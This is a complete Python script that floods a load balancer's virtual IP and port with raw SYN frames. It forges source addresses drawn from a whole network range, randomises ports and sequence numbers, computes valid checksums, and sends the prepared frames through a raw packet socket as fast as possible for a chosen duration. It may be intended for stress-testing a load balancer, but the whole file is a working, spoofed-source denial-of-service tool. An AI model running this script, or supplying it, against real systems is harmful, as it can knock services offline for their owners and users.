#!/usr/bin/env python3
"""SYNs from random ports of a network's hosts, as fast as they go: flood.py INTERFACE MAC NETWORK VIP PORT SECONDS.

Prints how many. `MAC`: of the load balancer's interface. Checksums are right."""
import ipaddress
import random
import socket
import struct
import sys
import time

PREPARED = 16384  # frames, which are sent over and over


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def syn(source, vip, port, mac):
    head = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 5 << 4, 2, 65535,
                       0, 0)
    total = checksum(source + vip + struct.pack("!HH", 6, len(head)) + head)
    tcp = head[:16] + struct.pack("!H", total) + head[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0, source, vip)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return mac + b"\x02\0\0\0\0\xff" + b"\x08\0" + ip + tcp


def main():
    interface, mac, network, vip, port, seconds = sys.argv[1:]
    hosts = [host.packed for host in ipaddress.ip_network(network).hosts()]
    vip, mac = socket.inet_aton(vip), bytes.fromhex(mac.replace(":", ""))
    frames = [syn(random.choice(hosts), vip, int(port), mac) for _ in range(PREPARED)]
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    sent, end = 0, time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for frame in frames[sent % PREPARED:][:256]:
            try:
                wire.send(frame)
            except OSError:  # the queue is full
                continue
        sent += 256
    print(sent)


main()
